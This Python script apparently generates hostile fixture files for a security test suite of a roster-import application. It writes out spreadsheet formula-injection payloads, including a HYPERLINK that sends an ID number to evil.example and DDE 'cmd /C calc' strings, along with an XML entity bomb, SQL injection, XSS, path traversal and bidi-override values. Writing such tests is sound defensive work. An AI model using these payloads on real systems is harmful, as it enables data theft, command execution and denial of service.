"""Rebuild the committed hostile files under ``files/``.

    .venv/bin/python -m tests.security.hostile.make_files


Each is small (the largest, 20,000 columns, is about 150 KB). The ID numbers are synthetic
(valid check characters, no real person). The workbooks are written by hand as XML inside
a zip, so that each holds exactly the trap it is named for (a formula with a cached value
that differs from what the formula shows, an entity bomb ...), which openpyxl would not
write.
"""

from __future__ import annotations

import codecs
import io
import json
import struct
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

from tests.security.hostile.corpus import FILES_DIR

PLAN_14TH = Path(__file__).resolve().parents[3] / "dpf" / "indicators" / "data" / "plan_14th.json"

HEADER = ["身份证号码", "姓名", "类别", "起始日期", "终止日期"]
# Synthetic numbers (GB 11643 check characters correct): region 150402, born 1980-05-17.
IDS = ["150402198005170011", "150402198005170038", "150402198005170054"]

_OOXML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{_OOXML}.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    f'ContentType="{_OOXML}.worksheet+xml"/>'
    "{extra}</Types>"
)
SHARED_TYPE = (
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_RELS}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="名单" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
    "{extra}</Relationships>"
)
SHARED_REL = (
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/sharedStrings" Target="sharedStrings.xml"/>'
)
SHEET_OPEN = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_CLOSE = "</sheetData></worksheet>"


def column_letter(index: int) -> str:
    """0 → A, 25 → Z, 26 → AA ..."""
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def text_cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def row_xml(number: int, cells: list[str]) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


def text_row(number: int, values: list[str]) -> str:
    return row_xml(
        number, [text_cell(f"{column_letter(i)}{number}", v) for i, v in enumerate(values)]
    )


def workbook(sheet_rows: str, shared: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "[Content_Types].xml", CONTENT_TYPES.format(extra=SHARED_TYPE if shared else "")
        )
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("xl/workbook.xml", WORKBOOK)
        zf.writestr(
            "xl/_rels/workbook.xml.rels", WORKBOOK_RELS.format(extra=SHARED_REL if shared else "")
        )
        zf.writestr("xl/worksheets/sheet1.xml", SHEET_OPEN + sheet_rows + SHEET_CLOSE)
        if shared is not None:
            zf.writestr("xl/sharedStrings.xml", shared)
    return out.getvalue()


def good_roster() -> bytes:
    rows = [text_row(1, HEADER)]
    rows += [text_row(n, [i, "张海明", "低保", "2023-01-05", ""]) for n, i in enumerate(IDS, 2)]
    return workbook("".join(rows))


def formulas() -> bytes:
    """Formula cells whose cached value is a valid ID number or a plain name: Excel shows
    what the formula computes, the cached value can say anything."""

    def formula(ref: str, text: str, cached: str) -> str:
        return f'<c r="{ref}" t="str"><f>{escape(text)}</f><v>{escape(cached)}</v></c>'

    rows = [text_row(1, HEADER)]
    traps = [
        ('HYPERLINK("http://evil.example/?"&B2,"点击查看")', IDS[0], "张海明"),
        ("cmd|' /C calc'!A0", IDS[1], "张海明"),
        ('CONCATENATE("1504021980","05170054")', IDS[2], '=cmd|" /C calc"!A0'),
    ]
    for n, (text, cached_id, name) in enumerate(traps, 2):
        rows.append(
            row_xml(
                n,
                [
                    formula(f"A{n}", text, cached_id),
                    text_cell(f"B{n}", name),
                    text_cell(f"C{n}", "低保"),
                    formula(f"D{n}", 'TEXT(TODAY(),"yyyy-mm-dd")', "2023-01-05"),
                ],
            )
        )
    rows.append(text_row(5, ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "低保", "2023-01-05", ""]))
    return workbook("".join(rows))


def wide() -> bytes:
    header = HEADER + [f"列{i}" for i in range(20_000 - len(HEADER))]
    return workbook(text_row(1, header) + text_row(2, [IDS[0], "张海明", "低保", "2023-01-05"]))


def entity_bomb() -> bytes:
    entities = '<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    shared = (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [{entities}]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&a9;</t></si></sst>'
    )
    rows = text_row(1, HEADER) + row_xml(
        2, ['<c r="A2" t="s"><v>0</v></c>', text_cell("B2", "张海明"), text_cell("C2", "低保")]
    )
    return workbook(rows, shared=shared)


def not_a_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("readme.txt", "这不是工作簿 / not a workbook")
    return out.getvalue()


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def csv_text(rows: list[list[str]]) -> str:
    return "".join(",".join(row) + "\r\n" for row in rows)


def build() -> dict[str, bytes]:
    roster = good_roster()
    hostile_ids = [
        "' OR 1=1 --",
        "=cmd|' /C calc'!A0",
        "１５０４０２１９８００５１７００\u202e11",
        "١٥٠٤٠٢١٩٨٠٠٥١٧٠٠١١",
        "<script>alert(1)</script>",
    ]
    files: dict[str, bytes] = {
        "truncated.xlsx": roster[: len(roster) // 2],
        "png_renamed.xlsx": png(),
        "empty.xlsx": b"",
        "xls_renamed.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "not_a_workbook.xlsx": not_a_workbook(),
        "xml_entities.xlsx": entity_bomb(),
        "formulas.xlsx": formulas(),
        "wide_20000_columns.xlsx": wide(),
        "gbk.csv": csv_text(
            [HEADER] + [["15040219800517001" + c, "张海明", "低保", "2023-01-05", ""] for c in "23"]
        ).encode("gbk"),
        "nul_bom.csv": codecs.BOM_UTF8
        + csv_text([HEADER, [IDS[0], "张海明", "低保", "2023-01-05", ""]])
        .encode("utf-8")
        .replace(b",", b",\x00"),
        "mixed_encoding.csv": csv_text([HEADER]).encode("gbk")
        + csv_text([[IDS[0], "张海明", "低保", "2023-01-05", ""]]).encode("utf-8")
        + csv_text([[IDS[1], "Zhang Hăiming", "低保", "2023-01-05", ""]])
        .encode("utf-8")
        .replace("ă".encode(), b"\xe3"),
        "utf16_no_bom.csv": csv_text([HEADER, [IDS[0], "张海明", "低保", "2023-01-05", ""]]).encode(
            "utf-16-le"
        ),
        "injection.csv": csv_text(
            [HEADER]
            + [[i.replace(",", "，"), "张海明", "低保", "2023-01-05", ""] for i in hostile_ids]
        ).encode("utf-8"),
    }
    shipped = json.loads(PLAN_14TH.read_text(encoding="utf-8"))
    plan = dict(shipped, code="P15", start="2026-01-01", end="2030-12-31", mid_term="2028-12-31")

    def plan_file(**changes: object) -> bytes:
        return json.dumps(dict(plan, **changes), ensure_ascii=False).encode()

    def first_indicator(**changes: object) -> list[dict[str, object]]:
        return [dict(plan["indicators"][0], **changes), *plan["indicators"][1:]]

    files["plan_valid.json"] = plan_file()
    files["plan_gbk.json"] = json.dumps(plan, ensure_ascii=False).encode("gbk")
    files["plan_not_object.json"] = json.dumps([plan], ensure_ascii=False).encode()
    files["plan_bidi.json"] = plan_file(name_zh="赤峰市“十五五”\u202e划规展发业事人疾残")
    files["plan_control.json"] = plan_file(
        indicators=first_indicator(name_zh="残疾人家庭\x1b[2J人均可支配收入")
    )
    files["plan_surrogates.json"] = json.dumps(dict(plan, name_zh="\ud800规划")).encode()
    files["plan_nan.json"] = plan_file(indicators=first_indicator(target="NaN")).replace(
        b'"target": "NaN"', b'"target": NaN'
    )
    files["plan_code_injection.json"] = plan_file(code="P15';DROP TABLE x")
    files["plan_indicator_code.json"] = plan_file(indicators=first_indicator(code="I01/../x"))
    region_header = ["code", "name", "parent_code", "level"]
    files["regions_arabic_digits.csv"] = csv_text(
        [region_header, ["150402001\u0660\u0660\u0669", "阿拉伯数字村", "150402001", "village"]]
    ).encode()
    files["regions_bidi_name.csv"] = csv_text(
        [region_header, ["150402001009", "测试\u202e村区", "150402001", "village"]]
    ).encode()
    files["regions_nul.csv"] = csv_text(
        [region_header, ["150402001009", "空\x00字符村", "150402001", "village"]]
    ).encode()
    files["regions_gbk.csv"] = csv_text(
        [region_header, ["150402001009", "国标编码村", "150402001", "village"]]
    ).encode("gbk")
    files["regions_injection.csv"] = csv_text(
        [region_header, ["1504'; DROP TABLE core_region; --", "注入村", "150402001", "village"]]
    ).encode()
    files["facts_not_object.json"] = b'"person"'
    files["facts_gbk.json"] = '{"certificate": {"valid": true, "说明": "国标"}}'.encode("gbk")
    return files


def main() -> None:
    FILES_DIR.mkdir(exist_ok=True)
    for name, content in build().items():
        (FILES_DIR / name).write_bytes(content)
        print(f"{name}: {len(content)} bytes")


if __name__ == "__main__":
    main()
